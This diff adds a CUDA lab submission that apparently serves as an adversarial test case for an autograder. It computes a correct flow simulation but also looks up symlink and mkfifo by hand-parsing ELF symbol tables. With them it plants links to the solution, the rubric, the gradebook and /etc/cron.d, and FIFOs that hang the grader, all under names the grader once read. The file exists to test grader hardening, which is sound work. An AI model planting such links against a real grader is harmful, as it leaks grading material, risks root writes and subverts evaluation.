@@ -1,0 +1,232 @@
+// Example submission "planted-links": a correct lab 01 (the `correct` example's kernels)
+// that, on every call, fills its working folder with the names the grader used to open after
+// a run: its stdout, stderr and result files (d0.out ... d15.out, perf-student-0.err, the
+// ranks' TAG.result.0 ...), each a symbolic link to the solution, the rubric, the gradebook
+// or a file in /etc, or a FIFO that blocks whoever opens it. libc's symlink and mkfifo are
+// found at run time (dl_iterate_phdr), as `symbol-lookup` finds open. A grader that reads
+// those names back quotes the solution in the report, writes through the links as root or
+// hangs on a FIFO holding the GPU lock. This one never opens a name the run could plant:
+// graded like `correct` (100), nothing read or written outside the run's folder, no hang.
+
+#include "lab.h"
+#include "labkit/cuda_check.h"
+#include "labkit/sciddicat.h"
+#include <link.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/stat.h>
+
+// The width update of serial.c, ported by hand: inflows minus outflows, in the order North,
+// West, East, South (the order of the additions is the reference's).
+__device__ static double new_width(int i, int j, int rows, int cols, const double *h,
+                                   const double *Sf)
+{
+    double t = h[lk_sciddicat_at(i, j, cols)];
+    const size_t layer = (size_t)rows * cols, c = lk_sciddicat_at(i, j, cols);
+    t += Sf[3 * layer + c - cols] - Sf[0 * layer + c];
+    t += Sf[2 * layer + c - 1] - Sf[1 * layer + c];
+    t += Sf[1 * layer + c + 1] - Sf[2 * layer + c];
+    t += Sf[0 * layer + c + cols] - Sf[3 * layer + c];
+    return t;
+}
+
+// Interior cell number k of an (rows-2) x (cols-2) interior, row-major, to (i, j). Grids
+// have fewer than 2^31 cells, so 32-bit arithmetic is enough (and much cheaper than 64-bit
+// division on a GPU).
+__device__ static bool interior_cell(int rows, int cols, int *i, int *j)
+{
+    unsigned k = blockIdx.x * blockDim.x + threadIdx.x;
+    unsigned inner_cols = cols - 2;
+    if (k >= (unsigned)(rows - 2) * inner_cols)
+        return false;
+    *i = 1 + (int)(k / inner_cols);
+    *j = 1 + (int)(k % inner_cols);
+    return true;
+}
+
+__global__ void reset_flows(int rows, int cols, double *Sf)
+{
+    int i, j;
+    if (interior_cell(rows, cols, &i, &j))
+        for (int k = 0; k < 4; k++)
+            Sf[lk_sciddicat_flow_at(k, i, j, rows, cols)] = 0.0;
+}
+
+__global__ void compute_flows(int rows, int cols, const double *z, const double *h, double *Sf,
+                              double p_r, double p_epsilon)
+{
+    int i, j;
+    if (!interior_cell(rows, cols, &i, &j))
+        return;
+    // The minimisation of differences, ported by hand in the serial order.
+    double u[5];
+    const double m = h[lk_sciddicat_at(i, j, cols)] - p_epsilon;
+    u[0] = z[lk_sciddicat_at(i, j, cols)] + p_epsilon;
+    u[1] = z[lk_sciddicat_at(i - 1, j, cols)] + h[lk_sciddicat_at(i - 1, j, cols)];
+    u[2] = z[lk_sciddicat_at(i, j - 1, cols)] + h[lk_sciddicat_at(i, j - 1, cols)];
+    u[3] = z[lk_sciddicat_at(i, j + 1, cols)] + h[lk_sciddicat_at(i, j + 1, cols)];
+    u[4] = z[lk_sciddicat_at(i + 1, j, cols)] + h[lk_sciddicat_at(i + 1, j, cols)];
+    bool out[5] = {false, false, false, false, false};
+    double average;
+    bool again;
+    do {
+        again = false;
+        average = m;
+        int count = 0;
+        for (int n = 0; n < 5; n++)
+            if (!out[n]) {
+                average += u[n];
+                count++;
+            }
+        if (count != 0)
+            average /= count;
+        for (int n = 0; n < 5; n++)
+            if (average <= u[n] && !out[n]) {
+                out[n] = true;
+                again = true;
+            }
+    } while (again);
+    for (int k = 0; k < 4; k++)
+        if (!out[k + 1])
+            Sf[lk_sciddicat_flow_at(k, i, j, rows, cols)] = (average - u[k + 1]) * p_r;
+}
+
+__global__ void update_width(int rows, int cols, double *h, const double *Sf)
+{
+    int i, j;
+    if (interior_cell(rows, cols, &i, &j))
+        h[lk_sciddicat_at(i, j, cols)] = new_width(i, j, rows, cols, h, Sf);
+}
+
+static int steps_on_device(int rows, int cols, const double *d_z, double *d_h, double *d_Sf,
+                           int steps, int block_x, int block_y, lk_error *err)
+{
+    if (rows < 3 || cols < 3)
+        return 0; // no interior cell: nothing changes
+    const int threads = block_x * block_y;
+    const long long cells = (long long)(rows - 2) * (cols - 2);
+    const unsigned blocks = (unsigned)((cells + threads - 1) / threads);
+    for (int s = 0; s < steps; s++) {
+        reset_flows<<<blocks, threads>>>(rows, cols, d_Sf);
+        LK_LAUNCH_TRY(err);
+        compute_flows<<<blocks, threads>>>(rows, cols, d_z, d_h, d_Sf, LK_SCIDDICAT_P_R,
+                                           LK_SCIDDICAT_P_EPSILON);
+        LK_LAUNCH_TRY(err);
+        update_width<<<blocks, threads>>>(rows, cols, d_h, d_Sf);
+        LK_LAUNCH_TRY(err);
+    }
+    return 0;
+}
+
+// ---- finding libc at run time -----------------------------------------------------------
+
+struct wanted {
+    const char *name;
+    void *address;
+};
+
+// The dynamic symbol table (.dynsym) of one loaded object, searched for w->name. Its size is
+// not recorded: .dynstr follows it in every object the linker makes.
+static int search_object(struct dl_phdr_info *info, size_t size, void *data)
+{
+    (void)size;
+    struct wanted *w = (struct wanted *)data;
+    if (info->dlpi_name && strncmp(info->dlpi_name, "linux-vdso", 10) == 0)
+        return 0; // the kernel's page: nothing wanted there
+    for (int p = 0; p < info->dlpi_phnum; p++) {
+        if (info->dlpi_phdr[p].p_type != PT_DYNAMIC)
+            continue;
+        const ElfW(Dyn) *dyn = (const ElfW(Dyn) *)(info->dlpi_addr + info->dlpi_phdr[p].p_vaddr);
+        ElfW(Addr) symtab = 0, strtab = 0;
+        for (; dyn->d_tag != DT_NULL; dyn++) {
+            if (dyn->d_tag == DT_SYMTAB)
+                symtab = dyn->d_un.d_ptr;
+            else if (dyn->d_tag == DT_STRTAB)
+                strtab = dyn->d_un.d_ptr;
+        }
+        if (symtab && symtab < info->dlpi_addr) // not relocated (the vDSO)
+            symtab += info->dlpi_addr, strtab += info->dlpi_addr;
+        if (!symtab || strtab <= symtab || strtab - symtab > (64u << 20))
+            continue;
+        const ElfW(Sym) *sym = (const ElfW(Sym) *)symtab;
+        const size_t n = (strtab - symtab) / sizeof *sym;
+        for (size_t k = 0; k < n; k++)
+            if (sym[k].st_value != 0 && ELF64_ST_TYPE(sym[k].st_info) == STT_FUNC &&
+                strcmp((const char *)strtab + sym[k].st_name, w->name) == 0) {
+                w->address = (void *)(info->dlpi_addr + sym[k].st_value);
+                return 1;
+            }
+    }
+    return 0;
+}
+
+static void *find(const char *name)
+{
+    struct wanted w = {name, NULL};
+    dl_iterate_phdr(search_object, &w);
+    return w.address;
+}
+
+typedef int (*symlink_fn)(const char *, const char *);
+typedef int (*mkfifo_fn)(const char *, unsigned);
+
+// Links to what a student must never see, FIFOs where the grader once wrote or read.
+static void plant_names(void)
+{
+    symlink_fn ln = (symlink_fn)find("symlink");
+    mkfifo_fn fifo = (mkfifo_fn)find("mkfifo");
+    if (!ln || !fifo)
+        return;
+    static const char *const targets[] = {
+        LK_TOP_DIR "/solutions/01-straightforward/kernels.cu", LK_TOP_DIR "/grader/rubric.txt",
+        LK_TOP_DIR "/build/grade/gradebook.csv", "/etc/cron.d/labkit-planted"};
+    static const char *const kinds[] = {"out", "err", "result", "result.0"};
+    char name[64];
+    for (int i = 0; i < 16; i++)
+        for (int k = 0; k < 4; k++) {
+            snprintf(name, sizeof name, "d%d.%s", i, kinds[k]);
+            ln(targets[(i + k) % 4], name);
+            snprintf(name, sizeof name, "perf-student-%d.%s", i, kinds[k]);
+            fifo(name, 0666);
+            snprintf(name, sizeof name, "d%d-np4.%s", i, kinds[k]);
+            fifo(name, 0666);
+        }
+    ln(LK_TOP_DIR "/solutions/01-straightforward/kernels.cu", "stdout");
+    fifo("stderr", 0666);
+    fifo("result", 0666);
+}
+
+extern "C" int lab01_gpu_run(int rows, int cols, const double *z, const double *h_in,
+                             double *h_out, int steps, int block_x, int block_y, lk_error *err)
+{
+    plant_names();
+    const size_t bytes = (size_t)rows * cols * sizeof(double);
+    double *d_z = NULL, *d_h = NULL, *d_Sf = NULL;
+    int rc = -1;
+    LK_CUDA_TRY(err, cudaMalloc(&d_z, bytes));
+    if (cudaMalloc(&d_h, bytes) != cudaSuccess || cudaMalloc(&d_Sf, 4 * bytes) != cudaSuccess) {
+        lk_fail(err, "kernels.cu: cudaMalloc of %zu bytes failed: the grid is too large for "
+                     "this GPU", 5 * bytes);
+        goto done;
+    }
+    if (cudaMemset(d_Sf, 0, 4 * bytes) != cudaSuccess ||
+        cudaMemcpy(d_z, z, bytes, cudaMemcpyHostToDevice) != cudaSuccess ||
+        cudaMemcpy(d_h, h_in, bytes, cudaMemcpyHostToDevice) != cudaSuccess) {
+        lk_fail(err, "kernels.cu: copying the inputs to the GPU failed: %s",
+                cudaGetErrorString(cudaGetLastError()));
+        goto done;
+    }
+    if (steps_on_device(rows, cols, d_z, d_h, d_Sf, steps, block_x, block_y, err) != 0)
+        goto done;
+    if (cudaMemcpy(h_out, d_h, bytes, cudaMemcpyDeviceToHost) != cudaSuccess) {
+        lk_fail(err, "kernels.cu: copying the result back failed: %s",
+                cudaGetErrorString(cudaGetLastError()));
+        goto done;
+    }
+    rc = 0;
+done:
+    cudaFree(d_z);
+    cudaFree(d_h);
+    cudaFree(d_Sf);
+    return rc;
+}
